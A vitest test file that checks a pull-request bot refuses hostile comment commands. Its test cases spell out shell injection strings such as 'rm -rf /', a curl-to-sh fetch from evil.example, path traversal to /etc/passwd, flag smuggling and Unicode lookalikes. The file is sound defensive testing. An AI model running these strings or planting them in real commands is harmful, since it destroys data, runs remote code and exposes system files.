import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { databaseKinds } from "../../helpers/databases.js";
import { deliver, eventually } from "../../helpers/deliver.js";
import { startGithubFake, type GithubFake } from "../../helpers/github-fake/index.js";
import { PULL_NUMBER } from "../../helpers/pull-request-scenario.js";
import {
  expectNoEngineApply,
  expectNothingApplied,
  expectStillUp,
  finalDelivery,
  HostileRepo,
  startHostileBosun,
  type HostileBosun,
} from "./hostile-harness.js";

/**
 * Hostile comment commands on a pull request, through the webhook and the comment handler: each
 * gets a reply naming what was wrong (the offending text only inside a code span), a 😕 reaction,
 * and runs nothing; no engine command line is ever built from comment text.
 */

interface CommandCase {
  name: string;
  body: string;
  /** What the reply must say. */
  says: RegExp[];
}

const refusedCases: CommandCase[] = [
  {
    name: "a shell separator glued to the command",
    body: "/plan; rm -rf /",
    says: [/unknown command `\/plan;`/, /`;` \(U\+003B\)/],
  },
  {
    name: "a command substitution as a stack",
    body: "/plan $(curl evil.example | sh)",
    says: [/`\$\(curl` is not a stack name/],
  },
  {
    name: "backticks as a stack",
    body: "/plan `id`",
    says: [/`` `id` `` is not a stack name/],
  },
  {
    name: "a pipe after a stack",
    body: "/plan network | sh",
    says: [/`\|` is not a stack name/],
  },
  {
    name: "an && chain",
    body: "/apply network && /apply",
    says: [/`&&` is not a stack name/],
  },
  {
    name: "a Cyrillic lookalike of /apply",
    body: "/\u0430pply",
    says: [/unknown command/, /U\+0430/],
  },
  {
    name: "a zero-width space inside /apply",
    body: "/ap\u200Bply",
    says: [/unknown command/, /U\+200B/],
  },
  {
    name: "an upper-case command",
    body: "/APPLY",
    says: [/commands are lower case, as in `\/apply`/],
  },
  {
    name: "-target smuggling -var",
    body: "/replan -target=null_resource.vpc -var=x=1",
    says: [/unknown flag `-var`/],
  },
  {
    name: "a -target that is a command substitution",
    body: "/replan -target=$(rm -rf /)",
    says: [/`\$\(rm` is not a resource address/],
  },
  {
    name: "a -target that is itself a flag",
    body: "/replan -target=-var=x",
    says: [/`-var=x` is not a resource address/],
  },
  {
    name: "a quoted -target hiding a flag",
    body: '/replan -target="a -var=x"',
    says: [/`"a` is not a resource address/],
  },
  {
    name: "an environment that climbs directories",
    body: "/plan -e ../../prod",
    says: [/`\.\.\/\.\.\/prod` is not an environment name/],
  },
  {
    name: "an environment with a separator",
    body: "/apply -e dev;prod",
    says: [/`dev;prod` is not an environment name/],
  },
  {
    name: "two environments",
    body: "/apply -e dev -e prod",
    says: [/the environment is given twice/],
  },
  {
    name: "-e without a value",
    body: "/plan -e",
    says: [/`-e` needs an environment name/],
  },
  {
    name: "an engine flag on /apply",
    body: "/apply -auto-approve",
    says: [/unknown flag `-auto-approve`/],
  },
  {
    name: "-chdir on /plan",
    body: "/plan -chdir=/etc",
    says: [/unknown flag `-chdir`/],
  },
  {
    name: "-target on a command that takes none",
    body: "/apply -target=null_resource.vpc",
    says: [/`\/apply` does not take `-target`/],
  },
  {
    name: "a command longer than 4096 characters",
    body: `/plan ${"network ".repeat(600)}`,
    says: [/longer than 4096 characters/],
  },
  {
    name: "more than 50 stacks",
    body: `/plan ${Array.from({ length: 51 }, (_, i) => `s${i}`).join(" ")}`,
    says: [/at most 50 stacks/],
  },
  {
    name: "a run id that is a path",
    body: "/revert ../../etc/passwd",
    says: [/`\.\.\/\.\.\/etc\/passwd` is not a run id/],
  },
  {
    name: "a mention and a link as stack names",
    body: "/plan @acme/admins [click](https://evil.example)",
    says: [/`@acme\/admins` is not a stack name/],
  },
  {
    name: "/destroy without a stack",
    body: "/destroy -e dev",
    says: [/`\/destroy` needs a stack/],
  },
  {
    name: "an unknown stack",
    body: "/plan nope",
    says: [/Unknown stack `nope`/, /Known stacks: `network`/],
  },
  {
    name: "an unknown environment",
    body: "/plan -e prod",
    says: [/Unknown environment `prod`/, /`dev`/],
  },
  {
    name: "/destroy of an unknown stack",
    body: "/destroy nope -e dev",
    says: [/Unknown stack `nope`/],
  },
  {
    name: "/apply with nothing planned",
    body: "/apply -e dev",
    says: [/Nothing to apply/],
  },
];

describe.each(databaseKinds)("hostile comment commands on %s", (kind) => {
  let hostile: HostileBosun;
  let github: GithubFake;
  const bosun = () => hostile.bosun;
  /** Every case comments on a pull request of its own, all at once: the workers take them in turn. */
  const cases = new Map<string, { repo: HostileRepo; deliveryId: string; commentId: number }>();

  beforeAll(async () => {
    hostile = await startHostileBosun(kind);
    github = await startGithubFake();
    for (const { name, body } of refusedCases) {
      const repo = await HostileRepo.create(github, `comments-${kind}`);
      const { payload, commentId } = repo.commentPayload(body);
      const { status, deliveryId } = await deliver(bosun().url, "issue_comment", payload);
      expect(status).toBe(200);
      cases.set(name, { repo, deliveryId, commentId });
    }
  });
  afterAll(async () => {
    await github?.close();
    await hostile?.close();
  });

  it.each(refusedCases)("refuses $name, saying what was wrong", async ({ name, says }) => {
    const { repo, deliveryId, commentId } = cases.get(name)!;
    const reply = await eventually(
      async () => repo.repo.commentsOn(PULL_NUMBER).find((text) => text.startsWith("@Codertocat")),
      { timeoutMs: 60_000 },
    );
    for (const pattern of says) expect(reply).toMatch(pattern);
    // Nothing from the comment reaches the reply outside a code span: no mention, no link.
    expect(reply.replace(/(`+)[^`]*?\1/g, "")).not.toMatch(/@acme|\]\(https:\/\/evil/);
    await eventually(async () =>
      repo.repo.reactions.some((r) => r.commentId === commentId && r.content === "confused")
        ? true
        : undefined,
    );
    expect((await finalDelivery(bosun(), deliveryId)).status).toBe("processed");
    expect(repo.repo.checkRuns).toEqual([]);
  });

  it("reads only the first line: a second line's /apply never runs", async () => {
    const repo = await HostileRepo.create(github, `comments-lines-${kind}`);
    const { payload } = repo.commentPayload("/help\n/apply -e dev");
    const { deliveryId } = await deliver(bosun().url, "issue_comment", payload);
    const reply = await eventually(async () => repo.repo.commentsOn(PULL_NUMBER)[0]);
    expect(reply).toContain("Bosun commands");
    expect((await finalDelivery(bosun(), deliveryId)).status).toBe("processed");
    expect(repo.repo.checkRuns).toEqual([]);
    cases.set("first line", { repo, deliveryId, commentId: 0 });
  });

  it("applies nothing when a plan waits and every way of sneaking in /apply is tried", async () => {
    const repo = await HostileRepo.create(github, `comments-sneak-${kind}`);
    cases.set("sneak", { repo, deliveryId: "", commentId: 0 });
    await repo.openPullRequest(bosun());
    await repo.check("bosun/dev", "action_required");
    const attempts = [
      "/plan\n/apply",
      "/\u0430pply",
      "/apply;",
      "/apply -e dev;/apply",
      "/replan -target=null_resource.vpc -auto-approve",
    ];
    for (const body of attempts) {
      const { payload } = repo.commentPayload(body);
      const { deliveryId } = await deliver(bosun().url, "issue_comment", payload);
      await finalDelivery(bosun(), deliveryId);
    }
    await expectStillUp(bosun());
    // "/plan\n/apply" re-plans (its first line); each of the others is answered.
    const replies = repo.repo.commentsOn(PULL_NUMBER).filter((body) => body.startsWith("@"));
    expect(replies).toHaveLength(attempts.length - 1);
    const check = await repo.check("bosun/dev", "action_required");
    expect(check.actions?.map((action) => action.identifier)).toEqual(["apply", "discard"]);
    expect(repo.repo.deployments).toEqual([]);
  });

  it("stays up and applies nothing anywhere", async () => {
    await expectStillUp(bosun());
    for (const { repo } of cases.values()) {
      await expectNothingApplied(bosun(), repo.id);
    }
    github.verify();
    expectNoEngineApply(await hostile.engineCommands());
  });
});
